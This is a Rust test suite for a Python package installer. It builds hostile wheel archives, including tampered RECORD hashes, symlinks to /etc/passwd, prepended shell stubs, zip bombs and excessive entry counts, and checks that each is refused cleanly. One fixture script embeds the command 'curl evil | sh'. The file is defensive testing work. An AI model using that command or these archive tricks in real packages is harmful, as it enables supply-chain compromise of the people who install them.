//! Hostile wheels, built here byte by byte, installed by the real `verse install` from a
//! loopback index: every one is refused with its exact message, through the unpacked cache
//! (the default) and unzipped directly (`--no-cache`), and nothing changes in the venv or
//! anywhere in the sandbox but the download cache, which holds no unpacked tree of it.
//! (Issue 6: "hostile archives are rejected before anything is written".)

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

use crate::support::rawzip::{RawEntry, RawZip};
use crate::support::*;

/// Path → (mode, sha256 of the content) of every file under `root` but the cache and the
/// project's inputs, which each case rewrites.
fn snapshot(root: &Path) -> BTreeMap<String, (u32, String)> {
    use std::os::unix::fs::PermissionsExt;
    tree(root)
        .into_iter()
        .filter(|p| {
            !p.starts_with("cache/")
                && !p.starts_with("wheels/")
                && p != "project/poetry.lock"
                && p != "project/pyproject.toml"
        })
        .map(|p| {
            let path = root.join(&p);
            let meta = std::fs::symlink_metadata(&path).expect("stat");
            let content = std::fs::read(&path).unwrap_or_default();
            let digest = sha256_hex(&content);
            (p, (meta.permissions().mode(), digest))
        })
        .collect()
}

/// A sandbox whose venv already holds `base`, and an index to serve hostile wheels from.
struct Bench {
    context: TestContext,
    server: IndexServer,
    base: DistFile,
}

impl Bench {
    fn new() -> Bench {
        let context = TestContext::new();
        let base = WheelBuilder::new("base", "1.0")
            .package("base")
            .build(&context.wheels_dir());
        let server = IndexServer::start();
        server.add(&base);
        let bench = Bench {
            context,
            server,
            base,
        };
        bench.lock(&[]);
        bench.context.install(&bench.server).run().success();
        bench
    }

    fn lock(&self, wheels: &[&DistFile]) {
        let mut pyproject = Pyproject::new(Style::Poetry).dep(Dep::new("base", "*"));
        let mut lock = Lockfile::new(LockFormat::V2_1).package(Locked::of(&self.base));
        for wheel in wheels {
            pyproject = pyproject.dep(Dep::new(&wheel.name, "*"));
            lock = lock.package(Locked::of(wheel));
        }
        self.context
            .project()
            .pyproject(pyproject)
            .lock(lock)
            .write();
    }

    /// Serves `bytes` as `builder`'s wheel and asserts that installing it fails with
    /// `message`, both ways, changing nothing.
    fn refuses(&self, builder: &WheelBuilder, bytes: Vec<u8>, message: &str) {
        let wheel = write_dist_file(
            &builder.dist_name(),
            builder.version(),
            &builder.filename(),
            &self.context.wheels_dir(),
            &bytes,
        );
        self.server.add(&wheel);
        self.lock(&[&wheel]);
        let root = self.context.root();
        let before = snapshot(root);
        for no_cache in [false, true] {
            let mut install = self.context.install(&self.server);
            if no_cache {
                install = install.arg("--no-cache");
            }
            install
                .run()
                .failure()
                .error_has(&format!("cannot install {}=={}", wheel.name, wheel.version))
                .error_has(&format!("cannot install {}: {message}", wheel.filename));
            let after = snapshot(root);
            assert!(
                before == after,
                "{message} (no_cache: {no_cache}): the sandbox changed: {:?}",
                diff(&before, &after)
            );
            let cache = tree(&self.context.cache_dir());
            let leftovers: Vec<&String> = cache
                .iter()
                .filter(|p| {
                    (p.contains(&wheel.sha256) && p.contains("unpacked")) || p.contains("unpack-")
                })
                .collect();
            assert!(leftovers.is_empty(), "{message}: {leftovers:?}");
        }
    }
}

fn diff(
    before: &BTreeMap<String, (u32, String)>,
    after: &BTreeMap<String, (u32, String)>,
) -> Vec<String> {
    let mut out = Vec::new();
    for (k, v) in after {
        if before.get(k) != Some(v) {
            out.push(format!("+ {k}"));
        }
    }
    for k in before.keys() {
        if !after.contains_key(k) {
            out.push(format!("- {k}"));
        }
    }
    out
}

fn b64_sha256(bytes: &[u8]) -> String {
    record_hash(bytes).trim_start_matches("sha256=").to_string()
}

fn evil(version: &str) -> WheelBuilder {
    WheelBuilder::new("evil", version)
        .package("evil")
        .file("evil/core.py", "VALUE = 1\n")
        .data("scripts", "evil-tool", "#!python\nprint('tool')\n")
}

fn raw(builder: &WheelBuilder, dir: &Path) -> RawZip {
    RawZip::parse(&builder.build(dir).bytes())
}

#[test]
fn a_good_wheel_installs_both_ways_with_an_unlisted_record_signature() {
    for no_cache in [false, true] {
        let bench = Bench::new();
        let builder = evil("1.0");
        let dist_info = builder.dist_info_dir();
        let builder = builder.raw_entry(&format!("{dist_info}/RECORD.jws"), "{}");
        let wheel = builder.build(&bench.context.wheels_dir());
        bench.server.add(&wheel);
        bench.lock(&[&wheel]);
        let mut install = bench.context.install(&bench.server);
        if no_cache {
            install = install.arg("--no-cache");
        }
        install.run().success();
        assert_eq!(bench.context.installed(), ["base==1.0", "evil==1.0"]);
        bench.context.verse().arg("check").run().success();
    }
}

#[test]
fn members_that_do_not_match_record_are_refused() {
    let bench = Bench::new();
    let dir = bench.context.wheels_dir();

    // A module whose bytes changed after RECORD was written.
    let builder = evil("1.1");
    let mut zip = raw(&builder, &dir);
    let original = b"VALUE = 1\n";
    let swapped = b"VALUE = 2\n";
    zip.entries
        .iter_mut()
        .find(|e| e.name == "evil/core.py")
        .map(|e| *e = RawEntry::file("evil/core.py", swapped, true))
        .expect("evil/core.py");
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!(
            "evil/core.py does not match RECORD: RECORD says sha256={}, the archive holds sha256={}",
            b64_sha256(original),
            b64_sha256(swapped)
        ),
    );

    // The same in a script (read whole to rewrite its shebang) and in the metadata.
    let builder = evil("1.2");
    let script = format!("{}/scripts/evil-tool", builder.data_dir());
    let mut zip = raw(&builder, &dir);
    let fake = b"#!python\nimport os; os.system('curl evil | sh')\n";
    *zip.entry(&script) = RawEntry::file(&script, fake, true);
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!(
            "{script} does not match RECORD: RECORD says sha256={}, the archive holds sha256={}",
            b64_sha256(b"#!python\nprint('tool')\n"),
            b64_sha256(fake)
        ),
    );

    let builder = evil("1.3");
    let wheel_file = format!("{}/WHEEL", builder.dist_info_dir());
    let mut zip = raw(&builder, &dir);
    let original = zip.entry(&wheel_file).clone();
    let changed = b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\n";
    *zip.entry(&wheel_file) = RawEntry::file(&wheel_file, changed, true);
    let original_bytes = inflate_via_zip(&original);
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!(
            "{wheel_file} does not match RECORD: RECORD says sha256={}, the archive holds sha256={}",
            b64_sha256(&original_bytes),
            b64_sha256(changed)
        ),
    );

    // A good member replacing another package's file, then a bad one: with `--no-cache` the
    // replacing file is checked first and written last, so `base` keeps its own file.
    let builder = WheelBuilder::new("evil", "1.5")
        .file("base/__init__.py", "HIJACKED = True\n")
        .package("evil")
        .file("evil/core.py", "VALUE = 1\n");
    let mut zip = raw(&builder, &dir);
    *zip.entry("evil/core.py") = RawEntry::file("evil/core.py", swapped, true);
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!(
            "evil/core.py does not match RECORD: RECORD says sha256={}, the archive holds sha256={}",
            b64_sha256(b"VALUE = 1\n"),
            b64_sha256(swapped)
        ),
    );

    // Right hash, wrong size.
    let builder = evil("1.4");
    let core = b"VALUE = 1\n";
    let record = record_for(&builder, &dir, |path, hash, size| {
        if path == "evil/core.py" {
            format!("{path},{hash},{}", size + 1)
        } else {
            format!("{path},{hash},{size}")
        }
    });
    let builder = builder.record(Record::Custom(record));
    bench.refuses(
        &builder,
        builder.build(&dir).bytes(),
        &format!(
            "evil/core.py does not match RECORD: RECORD says {} bytes, the archive holds {}",
            core.len() + 1,
            core.len()
        ),
    );
}

#[test]
fn record_must_list_exactly_the_archive_with_strong_hashes() {
    let bench = Bench::new();
    let dir = bench.context.wheels_dir();

    let builder = evil("2.1").raw_entry("evil/extra.py", "import os\n");
    bench.refuses(
        &builder,
        builder.build(&dir).bytes(),
        "evil/extra.py is not listed in RECORD",
    );

    let builder = evil("2.2");
    let mut record = record_for(&builder, &dir, |p, h, s| format!("{p},{h},{s}"));
    record.push_str(&format!("evil/ghost.py,{},3\n", record_hash(b"x\n")));
    let builder = builder.record(Record::Custom(record));
    bench.refuses(
        &builder,
        builder.build(&dir).bytes(),
        "RECORD lists evil/ghost.py, which is not in the archive",
    );

    let builder = evil("2.3");
    let record = record_for(&builder, &dir, |p, h, s| {
        if p == "evil/core.py" {
            format!("{p},,")
        } else {
            format!("{p},{h},{s}")
        }
    });
    let builder = builder.record(Record::Custom(record));
    bench.refuses(
        &builder,
        builder.build(&dir).bytes(),
        "RECORD gives no hash for evil/core.py",
    );

    let builder = evil("2.4");
    let record = record_for(&builder, &dir, |p, h, s| {
        if p == "evil/core.py" {
            format!("{p},md5=8bCkAXnu5HD8wNdh6ZrXcg,{s}")
        } else {
            format!("{p},{h},{s}")
        }
    });
    let builder = builder.record(Record::Custom(record));
    bench.refuses(
        &builder,
        builder.build(&dir).bytes(),
        "RECORD hashes evil/core.py with md5, which verse does not accept (sha256, sha384 or sha512)",
    );
}

#[test]
fn archives_whose_structure_lies_are_refused() {
    let bench = Bench::new();
    let dir = bench.context.wheels_dir();
    let init = "evil/__init__.py";

    // A symlink entry (listed in RECORD with the link text's hash).
    let builder = evil("3.1").file("evil/link", "/etc/passwd");
    let mut zip = raw(&builder, &dir);
    zip.entry("evil/link").external = 0o120777 << 16;
    bench.refuses(
        &builder,
        zip.to_bytes(),
        "evil/link is a symbolic link (wheels hold regular files only)",
    );

    // Local headers that disagree with the central directory.
    let builder = evil("3.2");
    let mut zip = raw(&builder, &dir);
    zip.entry(init).local_name = Some("evil/__init__.pz".into());
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!("the local header of {init} names it evil/__init__.pz"),
    );
    let builder = evil("3.3");
    let mut zip = raw(&builder, &dir);
    zip.entry(init).local_method = Some(0);
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!(
            "the local header of {init} gives another compression method (0, the central directory 8)"
        ),
    );
    let builder = evil("3.4");
    let mut zip = raw(&builder, &dir);
    let size = zip.entry(init).size;
    zip.entry(init).local_size = Some(size + 100);
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!("the local header of {init} gives another size or CRC than the central directory"),
    );

    // The same name twice, and twice in different case.
    let builder = evil("3.5");
    let mut zip = raw(&builder, &dir);
    let mut second = zip.entry(init).clone();
    second.data = RawEntry::file(init, b"import os\n", true).data;
    zip.entries.push(second);
    bench.refuses(
        &builder,
        zip.to_bytes(),
        "the archive holds two entries of the same name",
    );
    let builder = evil("3.6");
    let mut zip = raw(&builder, &dir);
    zip.entries
        .push(RawEntry::file("evil/__INIT__.py", b"import os\n", true));
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!("the archive names {init} and evil/__INIT__.py, which differ only in case"),
    );

    // Data before the archive (a self-extractor's stub), between entries, after the end.
    let builder = evil("3.7");
    let mut bytes = b"#!/bin/sh\necho owned\nexit 0\n".to_vec();
    let stub = bytes.len();
    bytes.extend(raw(&builder, &dir).to_bytes());
    bench.refuses(
        &builder,
        bytes,
        &format!("{stub} bytes of unknown data precede the archive"),
    );
    let builder = evil("3.8");
    let mut zip = raw(&builder, &dir);
    zip.prefix = b"hidden".to_vec();
    bench.refuses(
        &builder,
        zip.to_bytes(),
        "6 bytes of unknown data at offset 0, outside every archive entry",
    );
    let builder = evil("3.9");
    let mut zip = raw(&builder, &dir);
    let first = &zip.entries[0];
    let offset = 30 + first.name.len() + first.data.len();
    zip.entries[1].before = b"a hidden payload".to_vec();
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!("16 bytes of unknown data at offset {offset}, outside every archive entry"),
    );
    let builder = evil("3.10");
    let mut zip = raw(&builder, &dir);
    zip.suffix = b"appended payload".to_vec();
    bench.refuses(
        &builder,
        zip.to_bytes(),
        "unknown data follows the end of the archive",
    );
}

#[test]
fn decompression_bombs_are_refused() {
    let bench = Bench::new();
    let dir = bench.context.wheels_dir();
    let zeros = vec![0u8; 16 << 20];

    // A member that expands more than 1000 times (RECORD is right about it).
    let builder = evil("4.1").file_bytes("evil/zeros.bin", &zeros);
    let mut zip = raw(&builder, &dir);
    let compressed = zip.entry("evil/zeros.bin").data.len();
    assert!(
        zeros.len() / compressed > 1000,
        "deflate got only {}:1",
        zeros.len() / compressed
    );
    bench.refuses(
        &builder,
        zip.to_bytes(),
        &format!(
            "evil/zeros.bin expands from {compressed} to {} bytes, more than 1000 times (a decompression bomb)",
            zeros.len()
        ),
    );

    // The same member declaring a small size: what is written is counted, not what is said
    // (the zip crate notices first; verse's own bound on the bytes read would next).
    let builder = evil("4.2").file_bytes("evil/zeros.bin", &zeros);
    let mut zip = raw(&builder, &dir);
    zip.entry("evil/zeros.bin").size = 1000;
    zip.entry("evil/zeros.bin").local_size = Some(1000);
    bench.refuses(
        &builder,
        zip.to_bytes(),
        "cannot read evil/zeros.bin: File is larger than its declared uncompressed size",
    );

    // Members declaring more than 8 GiB in total (stored: each is "only" 1:1).
    let builder = evil("4.3");
    let mut zip = raw(&builder, &dir);
    for i in 0..3 {
        let mut big = RawEntry::file(&format!("evil/big{i}.bin"), b"x", false);
        big.size = 0xFFFF_FFF0;
        big.local_size = Some(0xFFFF_FFF0);
        big.compressed_size = Some(0xFFFF_FFF0);
        zip.entries.push(big);
    }
    bench.refuses(
        &builder,
        zip.to_bytes(),
        "the archive unpacks to more than the limit of 8589934592 bytes",
    );
}

#[test]
fn an_archive_of_too_many_entries_is_refused() {
    let bench = Bench::new();
    let builder = evil("5.1");
    let dir = bench.context.wheels_dir();
    let good = builder.build(&dir).bytes();
    let mut source = zip::ZipArchive::new(std::io::Cursor::new(good)).expect("zip");
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..source.len() {
        let file = source.by_index_raw(i).expect("entry");
        out.raw_copy_file(file).expect("copy");
    }
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..250_000 {
        out.start_file(format!("evil/m/{i}"), options)
            .expect("entry");
    }
    out.write_all(b"").expect("write");
    let bytes = out.finish().expect("zip").into_inner();
    bench.refuses(
        &builder,
        bytes,
        &format!(
            "the archive has {} entries, more than the limit of 250000",
            250_000 + source.len()
        ),
    );
}

/// RECORD text for `builder`'s files, each row made by `row(path, hash, size)`.
fn record_for(
    builder: &WheelBuilder,
    dir: &Path,
    row: impl Fn(&str, &str, usize) -> String,
) -> String {
    let scratch = dir.join("scratch");
    let zip = RawZip::parse(&builder.build(&scratch).bytes());
    let record = format!("{}/RECORD", builder.dist_info_dir());
    let mut text = String::new();
    for entry in &zip.entries {
        if entry.name == record {
            continue;
        }
        let content = inflate_via_zip(entry);
        let line = row(&entry.name, &record_hash(&content), content.len());
        text.push_str(&line);
        text.push('\n');
    }
    text.push_str(&format!("{record},,\n"));
    text
}

/// The content of a parsed entry, read back through the zip crate.
fn inflate_via_zip(entry: &RawEntry) -> Vec<u8> {
    let zip = RawZip {
        entries: vec![entry.clone()],
        ..RawZip::default()
    };
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip.to_bytes())).expect("zip");
    let mut file = archive.by_index(0).expect("entry");
    let mut out = Vec::new();
    std::io::Read::read_to_end(&mut file, &mut out).expect("read");
    out
}

/// No false alarms on real wheels: every wheel under `VERSE_REAL_WHEELS` (searched
/// recursively, cache files named by digest included) passes the archive and RECORD checks.
/// `VERSE_REAL_WHEELS=DIR cargo test --test it real_wheels -- --ignored --nocapture`
#[test]
#[ignore = "needs VERSE_REAL_WHEELS=<directory holding .whl files>"]
fn real_wheels_pass_every_archive_check() {
    let root =
        std::path::PathBuf::from(std::env::var_os("VERSE_REAL_WHEELS").expect("VERSE_REAL_WHEELS"));
    let mut wheels = Vec::new();
    let mut dirs = vec![root];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).expect("read_dir").flatten() {
            let path = entry.path();
            if path.is_dir() {
                dirs.push(path);
            } else if path.extension().is_some_and(|e| e == "whl") {
                wheels.push(path);
            }
        }
    }
    let mut seen = std::collections::HashSet::new();
    let mut failures = Vec::new();
    let mut checked = 0;
    let scratch = tempfile::tempdir().expect("tempdir");
    for path in wheels {
        let bytes = std::fs::read(&path).expect("read wheel");
        if !seen.insert(sha256_hex(&bytes)) {
            continue;
        }
        // Cache files are named by digest: name the wheel after its .dist-info.
        let Some(filename) = filename_of(&path, &bytes) else {
            continue;
        };
        checked += 1;
        let dest = scratch.path().join(checked.to_string());
        if let Err(e) = verse::install::unpack_wheel(&path, &filename, &dest) {
            failures.push(format!("{}: {e}", path.display()));
        }
        let _ = std::fs::remove_dir_all(&dest);
    }
    eprintln!(
        "{checked} distinct wheels checked, {} refused",
        failures.len()
    );
    assert!(failures.is_empty(), "{failures:#?}");
}

fn filename_of(path: &Path, bytes: &[u8]) -> Option<verse::packaging::WheelFilename> {
    let own = path.file_name()?.to_str()?;
    if let Ok(filename) = own.parse() {
        return Some(filename);
    }
    let archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).ok()?;
    let dist_info = archive
        .file_names()
        .filter_map(|n| n.ok()?.split_once('/').map(|(first, _)| first.to_string()))
        .find(|first| first.ends_with(".dist-info"))?;
    let stem = dist_info.trim_end_matches(".dist-info");
    format!("{stem}-py3-none-any.whl").parse().ok()
}

/// A tmpfs mounted for one test, unmounted when dropped (also when the test fails).
struct TinyDisk {
    dir: std::path::PathBuf,
}

impl TinyDisk {
    /// `None` where mounting is not allowed (not root, no mount namespace rights).
    fn mount(dir: &Path, bytes: u64) -> Option<TinyDisk> {
        std::fs::create_dir_all(dir).expect("mount point");
        let status = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={bytes}"), "tmpfs"])
            .arg(dir)
            .stderr(std::process::Stdio::null())
            .status()
            .ok()?;
        status.success().then(|| TinyDisk {
            dir: dir.to_path_buf(),
        })
    }

    /// Fills the disk with a ballast file until `left` bytes are free.
    fn fill(&self, left: u64) -> std::path::PathBuf {
        let ballast = self.dir.join("ballast");
        let mut file = std::fs::File::create(&ballast).expect("ballast");
        let chunk = vec![0x5a; 64 << 10];
        loop {
            let free = free_bytes(&self.dir);
            if free <= left {
                break;
            }
            let n = (free - left).min(chunk.len() as u64) as usize;
            if file.write_all(&chunk[..n]).is_err() {
                break;
            }
            file.sync_all().expect("sync");
        }
        ballast
    }
}

impl Drop for TinyDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.dir)
            .status();
    }
}

fn free_bytes(dir: &Path) -> u64 {
    let out = std::process::Command::new("df")
        .args(["--output=avail", "-B1"])
        .arg(dir)
        .output()
        .expect("df");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .nth(1)
        .and_then(|l| l.trim().parse().ok())
        .expect("df output")
}

/// Incompressible bytes (xorshift), so the wheel's members take their full size on disk.
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut state = seed | 1;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect()
}

/// A full disk in the middle of an install: a clean error naming the cause, no file of the
/// package left behind, the venv as it was; once space is freed, the same command installs
/// it and `verse check` finds every RECORD hash right. (Issue 6: "a full disk at any point".)
#[test]
fn a_full_disk_fails_cleanly_and_a_rerun_after_freeing_space_completes() {
    let context = TestContext::new();
    let Some(disk) = TinyDisk::mount(&context.root().join("disk"), 24 << 20) else {
        eprintln!("skipped: cannot mount a tmpfs here (needs root)");
        return;
    };
    let venv = disk.dir.join("venv");
    let server = IndexServer::start();
    let base = WheelBuilder::new("base", "1.0")
        .package("base")
        .build(&context.wheels_dir());
    let mut big = WheelBuilder::new("big", "1.0").package("big");
    for i in 0..6 {
        big = big.file_bytes(&format!("big/blob{i}.bin"), &noise(1 << 20, i + 1));
    }
    let big = big.build(&context.wheels_dir());
    server.add(&base).add(&big);
    let lock = |wheels: &[&DistFile]| {
        let mut pyproject = Pyproject::new(Style::Poetry);
        let mut lock = Lockfile::new(LockFormat::V2_1);
        for wheel in wheels {
            pyproject = pyproject.dep(Dep::new(&wheel.name, "*"));
            lock = lock.package(Locked::of(wheel));
        }
        context.project().pyproject(pyproject).lock(lock).write();
    };
    let install = || context.install(&server).arg("--venv").arg(&venv);

    lock(&[&base]);
    install().run().success();
    lock(&[&base, &big]);
    // 6 MiB to write, 3 MiB free: the disk fills half-way through the package.
    let ballast = disk.fill(3 << 20);
    let before = snapshot(&venv);
    for no_cache in [false, true] {
        let mut command = install();
        if no_cache {
            command = command.arg("--no-cache");
        }
        command
            .run()
            .failure()
            .error_has("cannot install big==1.0")
            .error_has("No space left on device");
        assert!(
            before == snapshot(&venv),
            "no_cache: {no_cache}: the venv changed: {:?}",
            diff(&before, &snapshot(&venv))
        );
        assert_eq!(installed_in(&venv), ["base==1.0"]);
    }

    std::fs::remove_file(&ballast).expect("freeing space");
    install().run().success();
    assert_eq!(installed_in(&venv), ["base==1.0", "big==1.0"]);
    context
        .verse()
        .args(["check", "--venv"])
        .arg(&venv)
        .run()
        .success()
        .stdout_has("OK, the venv matches the lock");
}
